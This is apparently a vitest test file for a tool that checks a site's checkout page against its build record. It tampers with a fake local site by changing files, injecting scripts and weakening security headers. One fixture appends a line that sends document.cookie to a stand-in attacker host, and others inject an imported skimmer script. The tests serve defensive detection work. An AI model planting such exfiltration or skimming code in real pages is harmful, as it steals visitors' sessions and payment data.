// The payment-page check against a tiny fake site served on 127.0.0.1: a /checkout with its import map, an entry
// script and a chunk pinned by integrity, a lazy chunk's modulepreload in a <template>, an authorised third-party
// script (a second server: another origin), and the build's record of all of it. Each case tampers with one thing.
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import {
  cspHashOf,
  hostingFiles,
  type PaymentPageRecord,
  sriOf,
  storedPlanEntry,
} from "@membership/site-kit/hosting";
import { type Browser, chromium } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { chromiumLaunchOptions } from "../chromium.js";
import {
  builtRecord,
  builtSite,
  CHUNK,
  ENTRY,
  type FakeSite,
  IMPORT_MAP,
  LAZY,
  listen,
  SKIMMER,
  serveSite,
  serveThirdParty,
} from "../test/fakePaymentSite.js";
import { checkPaymentPage } from "./check.js";
import { checkPaymentPageCommand } from "./cli.js";
import { formatReport, type PaymentPageReport } from "./report.js";

// Chromium takes seconds on a busy 2-core machine: a check's limit is not vitest's 5 s.
describe("the payment-page check against the build's record", { timeout: 60_000 }, () => {
  let browser: Browser;
  let siteServer: Server;
  let thirdPartyServer: Server;
  let origin = "";
  let thirdParty = "";
  let site: FakeSite;
  let record: PaymentPageRecord;

  beforeAll(async () => {
    browser = await chromium.launch(chromiumLaunchOptions);
    siteServer = createServer(serveSite(() => site));
    thirdPartyServer = createServer(serveThirdParty);
    origin = await listen(siteServer);
    thirdParty = await listen(thirdPartyServer);
  });
  afterAll(async () => {
    await browser?.close();
    await new Promise((done) => siteServer?.close(done));
    await new Promise((done) => thirdPartyServer?.close(done));
  });
  beforeEach(() => {
    site = builtSite(thirdParty);
    record = builtRecord(site, thirdParty);
  });

  async function check(): Promise<PaymentPageReport> {
    const context = await browser.newContext();
    try {
      return await checkPaymentPage(await context.newPage(), {
        origin,
        record,
        settle: (page) => page.waitForLoadState("networkidle"),
      });
    } finally {
      await context.close();
    }
  }

  it("stores a plan the page sells, the first it has a form for, as Buy would: a brand without PREMIUM too", async () => {
    site.checkoutHtml = site.checkoutHtml.replace(
      "<main>",
      '<template data-plan-form="ESSENTIAL"><form></form></template><template data-plan-form="PLUS"><form></form></template><main>',
    );
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const report = await checkPaymentPage(page, {
        origin,
        record,
        settle: (loaded) => loaded.waitForLoadState("networkidle"),
      });
      expect(report.drift, formatReport(report)).toEqual([]);
      const [key, essential] = storedPlanEntry("ESSENTIAL");
      expect(await page.evaluate((name) => sessionStorage.getItem(name), key)).toBe(essential);
    } finally {
      await context.close();
    }
  });

  it("sees every script of the untouched page, each as recorded", async () => {
    const report = await check();
    expect(report.drift, formatReport(report)).toEqual([]);
    expect(report.status).toBe(200);
    expect(report.scripts.map(({ script, hash, drift }) => ({ script, hash, drift }))).toEqual([
      { script: `${origin}/assets/chunk-b2.js`, hash: sriOf(CHUNK), drift: [] },
      { script: `${origin}/assets/entry-a1.js`, hash: sriOf(ENTRY), drift: [] },
      { script: `${origin}/assets/lazy-c3.js`, hash: sriOf(LAZY), drift: [] },
      { script: `${thirdParty}/allowed/widget.js`, hash: null, drift: [] },
      { script: `inline ${cspHashOf(IMPORT_MAP)}`, hash: cspHashOf(IMPORT_MAP), drift: [] },
    ]);
    expect(report.headers.map((header) => [header.name, header.actual])).toEqual(
      Object.entries(site.checkoutHeaders),
    );
  });

  const TAMPERED_CHUNK = `${CHUNK}fetch("https://evil.example/?" + document.cookie);\n`;

  it.each<[string, (site: FakeSite) => void, (origin: string, thirdParty: string) => string[]]>([
    [
      "a file changed under its old name",
      (tampered) => {
        tampered.files["/assets/chunk-b2.js"] = TAMPERED_CHUNK;
      },
      () => [
        `changed script /assets/chunk-b2.js under its old name: the record has ${sriOf(CHUNK)}, the server sends ${sriOf(TAMPERED_CHUNK)}`,
      ],
    ],
    [
      "a new script file",
      (tampered) => {
        tampered.files["/assets/skim-d4.js"] = SKIMMER;
        tampered.checkoutHtml = tampered.checkoutHtml.replace(
          "</head>",
          '<script src="/assets/skim-d4.js"></script></head>',
        );
      },
      () => [`new script /assets/skim-d4.js (${sriOf(SKIMMER)}): not in the record`],
    ],
    [
      "an extra inline script",
      (tampered) => {
        tampered.checkoutHtml = tampered.checkoutHtml.replace(
          "</head>",
          `<script>${SKIMMER}</script></head>`,
        );
      },
      () => [
        `inline script ${cspHashOf(SKIMMER)} not in the record: "${SKIMMER}"`,
        "CSP violation: script-src-elem blocked inline",
      ],
    ],
    [
      "a third-party script outside the authorised prefixes",
      (tampered) => {
        tampered.checkoutHtml = tampered.checkoutHtml.replace(
          "</body>",
          `<script src="${thirdParty}/other/skim.js"></script></body>`,
        );
      },
      (_, other) => [
        `third-party script ${other}/other/skim.js matches no authorised prefix of the record`,
        `CSP violation: script-src-elem blocked ${other}/other/skim.js`,
      ],
    ],
    [
      "a module script without its integrity attribute that the import map pins: none",
      (tampered) => {
        tampered.checkoutHtml = tampered.checkoutHtml.replace(` integrity="${sriOf(ENTRY)}"`, "");
      },
      () => [],
    ],
    [
      "a classic script element without an integrity attribute",
      (tampered) => {
        tampered.checkoutHtml = tampered.checkoutHtml.replace(
          "</head>",
          '<script src="/assets/lazy-c3.js"></script></head>',
        );
      },
      () => ["<script src> /assets/lazy-c3.js has no integrity attribute"],
    ],
    [
      "a template's modulepreload link with another integrity",
      (tampered) => {
        tampered.checkoutHtml = tampered.checkoutHtml.replace(
          `href="/assets/lazy-c3.js" integrity="${sriOf(LAZY)}"`,
          `href="/assets/lazy-c3.js" integrity="${sriOf(SKIMMER)}"`,
        );
      },
      () => [
        `modulepreload link /assets/lazy-c3.js has integrity "${sriOf(SKIMMER)}", the record has ${sriOf(LAZY)}`,
      ],
    ],
    [
      "a header removed",
      (tampered) => {
        delete tampered.checkoutHeaders["X-Frame-Options"];
      },
      () => ['missing header X-Frame-Options (weakened): expected "DENY"'],
    ],
    [
      "a CSP without require-trusted-types-for",
      (tampered) => {
        tampered.checkoutHeaders["Content-Security-Policy"] = (
          tampered.checkoutHeaders["Content-Security-Policy"] ?? ""
        ).replace("; require-trusted-types-for 'script'", "");
      },
      () => {
        const expected = builtSite(thirdParty).checkoutHeaders["Content-Security-Policy"] ?? "";
        const weakened = expected.replace("; require-trusted-types-for 'script'", "");
        return [`header Content-Security-Policy: expected "${expected}", got "${weakened}"`];
      },
    ],
  ])("drift of %s", async (_label, tamper, expected) => {
    // The record stays the build's: only what the server sends changes.
    site = { ...site, files: { ...site.files }, checkoutHeaders: { ...site.checkoutHeaders } };
    tamper(site);
    const report = await check();
    expect(report.drift, formatReport(report)).toEqual(expected(origin, thirdParty));
  });

  it("reports each header and script with its verdict, then the result", async () => {
    site.files["/assets/chunk-b2.js"] = TAMPERED_CHUNK;
    const text = formatReport(await check());
    expect(text).toContain(`  ok     ${origin}/assets/entry-a1.js ${sriOf(ENTRY)} (The fake`);
    expect(text).toContain(
      `  DRIFT  ${origin}/assets/chunk-b2.js: changed script /assets/chunk-b2.js under its old name`,
    );
    expect(text).toContain("  ok     X-Frame-Options");
    expect(text).toContain("Result: DRIFT, 1 difference(s)");
  });

  describe("the operator's command", () => {
    let siteDir = "";
    let output: string[] = [];
    beforeEach(async () => {
      siteDir = await mkdtemp(join(tmpdir(), "site-check-payment-page-"));
      output = [];
      const collect = (...args: unknown[]) => {
        output.push(args.join(" "));
      };
      vi.spyOn(console, "info").mockImplementation(collect);
      vi.spyOn(console, "error").mockImplementation(collect);
    });
    afterEach(async () => {
      vi.restoreAllMocks();
      await rm(siteDir, { recursive: true, force: true });
    });

    async function writeRecord(file: string, content: unknown): Promise<void> {
      await mkdir(dirname(file), { recursive: true });
      await writeFile(file, JSON.stringify(content));
    }

    it("exits 0 on the untouched site, with the record the build left in deploy/", async () => {
      await writeRecord(hostingFiles(join(siteDir, "dist")).paymentPageJson, record);
      const code = await checkPaymentPageCommand(siteDir, [origin, "--settle-ms", "0"], browser);
      expect(output.join("\n")).toContain("Result: OK");
      expect(code, output.join("\n")).toBe(0);
    });

    it("exits 1 on drift from the record given with --record", async () => {
      await writeRecord(join(siteDir, "kept", "release.json"), record);
      site.files["/assets/chunk-b2.js"] = TAMPERED_CHUNK;
      const code = await checkPaymentPageCommand(
        siteDir,
        [origin, "--", "--record", "kept/release.json", "--settle-ms", "0"],
        browser,
      );
      expect(output.join("\n")).toContain(`DRIFT  ${origin}/assets/chunk-b2.js: changed script`);
      expect(code, output.join("\n")).toBe(1);
    });

    it.each<[string, (dir: string) => Promise<string[]>, string]>([
      ["no record", async () => [origin], "No payment-page record at"],
      [
        "a record that is not one",
        async (dir) => {
          await writeRecord(join(dir, "broken.json"), { path: "/checkout" });
          return [origin, "--record", "broken.json"];
        },
        "broken.json is not a payment-page record: no headers",
      ],
      ["no URL", async () => ["--record", "x.json"], "usage: membership-site-check payment-page"],
    ])("exits 2 with %s", async (_label, setUp, message) => {
      const code = await checkPaymentPageCommand(siteDir, await setUp(siteDir), browser);
      expect(output.join("\n")).toContain(message);
      expect(code).toBe(2);
    });
  });
});
